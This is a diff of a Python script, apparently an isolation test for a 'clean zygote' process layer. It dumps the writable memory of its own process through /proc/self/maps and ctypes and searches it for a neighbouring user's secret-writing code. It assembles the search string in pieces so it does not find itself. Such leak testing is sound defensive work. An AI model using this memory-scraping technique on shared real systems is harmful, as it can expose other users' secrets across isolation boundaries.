@@ -5,29 +5,29 @@ Layer: clean zygote
 
 # %% before
 import ctypes
-import re
+
+PIECE = 1 << 22
 
 
-def spans():
+def pieces():
     with open("/proc/self/maps") as maps:
-        for line in maps:
+        for line in list(maps):
             ends, rights, *rest = line.split()
             low, high = (int(end, 16) for end in ends.split("-"))
-            if rights.startswith("rw") and high - low < 1 << 25 and "[stack]" not in rest:
-                yield low, high
+            if rights.startswith("rw") and high - low < 1 << 28 and "[stack]" not in rest:
+                yield from (ctypes.string_at(at, min(PIECE, high - at)) for at in range(low, high, PIECE))
 
 
 # %% try
 # The neighbour's first cell says `open("mine", "w").write(secret)`: put together here, so as not to find oneself.
-words = [b"open(", b'"mine"', b", ", b'"w"', b").write"]
+middle, before, after = b'mine", ' + b'"w"', b'open("', b").write"
 found = []
-for low, high in spans():
-    text = ctypes.string_at(low, high - low)
-    at = text.find(words[1] + words[2] + words[3])
+for text in pieces():
+    at = text.find(middle)
     while at >= 0:
-        if text[at - 5 : at] == words[0] and text[at + 13 : at + 20] == words[4]:
+        if text[at - 6 : at] == before and text[at + 10 : at + 17] == after:
             found.append(text[at - 80 : at + 60])
-        at = text.find(words[1] + words[2] + words[3], at + 1)
+        at = text.find(middle, at + 1)
 if not found:
     raise LookupError("nothing of anybody else")
 print(found)
